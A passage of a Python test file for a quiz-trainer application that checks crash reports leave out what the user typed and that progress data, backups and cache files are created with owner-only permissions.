    status, out, err = main_in_process("stats")
    assert status != 0
    line = one_line(err)
    reports = list((isolated_home / "crash-reports").iterdir())
    assert len(reports) == 1 and str(reports[0]) in line
    text = reports[0].read_text()
    assert "RuntimeError: unexpected state after 33 characters" in text
    assert "my secret answer" not in text and "line " in text  # where, never what was typed
    assert stat.S_IMODE(reports[0].stat().st_mode) == 0o600
    assert stat.S_IMODE(reports[0].parent.stat().st_mode) == 0o700


# -- privacy ---------------------------------------------------------------------------------
def test_progress_cache_and_backups_are_private(tmp_path, isolated_home):
    from trainer.content.cache import cache_dir, load_bank_cached

    folder = tmp_path / "private"
    store = Store.open(folder)
    store.record_attempt("q01", "quiz", "a private answer", 50, [], [])
    store._backup(".test.bak")
    load_bank_cached()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE(cache_dir().stat().st_mode) == 0o700
    assert stat.S_IMODE(isolated_home.stat().st_mode) == 0o700  # created by the cache
    files = [*folder.iterdir(), *cache_dir().iterdir()]
    assert {p.name for p in folder.iterdir()} >= {DB_NAME, f"{DB_NAME}-wal", f"{DB_NAME}-shm"}
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in files} == {oct(0o600)}
